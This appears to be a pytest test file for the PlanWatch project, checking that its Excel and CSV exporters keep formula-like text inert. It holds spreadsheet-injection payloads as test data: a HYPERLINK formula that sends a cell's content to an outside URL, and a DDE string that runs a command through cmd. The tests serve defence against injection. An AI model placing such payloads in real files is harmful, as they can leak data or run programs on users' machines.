"""Formula injection (issue 14, item 3): text PlanWatch writes to .xlsx and CSV is never run as a formula.

Every file is written by the real writer and read back with openpyxl or the csv module.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from planwatch.monitor.exchange import (
    ExchangeRow,
    TemplateIdentity,
    TemplateIndicator,
    read_csv,
    write_csv,
    write_sdmx_csv,
    write_template,
)
from planwatch.report import ReportKind
from planwatch.services.plans import find_plan
from planwatch.services.reports import report_content, write_report
from planwatch.store import Database
from planwatch.store.models import Indicator
from tests.conftest import demo_database_url

PAYLOAD = '=HYPERLINK("http://x"&C3,"点击查看详情")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> Iterator[tuple[str, object, str]]:
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    urls = demo_database_url("sqlite", tmp_path_factory.mktemp("formula"))
    database = Database(next(urls))
    with database.session() as session:
        indicator = session.scalars(select(Indicator).order_by(Indicator.id)).first()
        assert indicator is not None
        indicator.name = PAYLOAD
        indicator.source_text = "+cmd|' /C calc'!A0"
    yield database
    database.dispose()
    urls.close()


def test_report_annex_keeps_an_injected_indicator_name_as_text(demo: Database, tmp_path: Path) -> None:
    with demo.session(readonly=True) as session:
        content = report_content(session, None, find_plan(session, None), 2024, ReportKind.ANNUAL)
    path = write_report(content, tmp_path / "annex.xlsx")
    cells = list(_cells(path))
    assert [where for where, _, kind in cells if kind == "f"] == []
    assert any(value == PAYLOAD and kind == "s" for _, value, kind in cells)
    assert any(value == "+cmd|' /C calc'!A0" for _, value, _ in cells)
    assert any(isinstance(value, float) for _, value, _ in cells)  # numbers stay numbers


def test_fill_in_template_keeps_injected_names_and_titles_as_text(tmp_path: Path) -> None:
    path = tmp_path / "template.xlsx"
    write_template(path, TemplateIdentity("=1+1", "=1+1", "QC-LYJ", "@SUM(1)", "2025"),
                   [TemplateIndicator("I001", PAYLOAD, "%", "=A1", "-2+3", "=B2", baseline="=C3", target="@x")])
    cells = list(_cells(path))
    assert [where for where, _, kind in cells if kind == "f"] == []
    assert any(value == PAYLOAD for _, value, _ in cells)


def _exchange_row() -> ExchangeRow:
    return ExchangeRow(indicator="I001", org_unit="QC-LYJ", period="2025", value="-3.5", indicator_name=PAYLOAD,
                       org_unit_name="+区林业局", age_group="@60+", unit="=%", source="\t=cmd", note="-1+2",
                       state="approved")


def test_long_csv_neutralizes_formula_fields_keeps_negative_numbers_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "data.csv"
    write_csv([_exchange_row()], path)
    with path.open(encoding="utf-8-sig", newline="") as stream:
        header, fields = list(csv.reader(stream))
    written = dict(zip(header, fields, strict=True))
    assert written["value"] == "-3.5"
    assert [f for name, f in written.items() if name != "value" and f.startswith(TRIGGERS)] == []
    assert written["indicator_name"] == "'" + PAYLOAD and written["note"] == "'-1+2"
    assert read_csv(path) == [_exchange_row()]


def test_sdmx_csv_neutralizes_formula_fields_and_keeps_negative_numbers(tmp_path: Path) -> None:
    path = tmp_path / "sdmx.csv"
    assert write_sdmx_csv([_exchange_row()], path, dataflow="=EVIL(1)") == (1, 0)
    with path.open(encoding="utf-8", newline="") as stream:
        header, fields = list(csv.reader(stream))
    written = dict(zip(header, fields, strict=True))
    assert written["OBS_VALUE"] == "-3.5" and written["AGE"] == "'@60+" and written["DATAFLOW"] == "'=EVIL(1)"
    assert [f for name, f in written.items() if name != "OBS_VALUE" and f.startswith(TRIGGERS)] == []
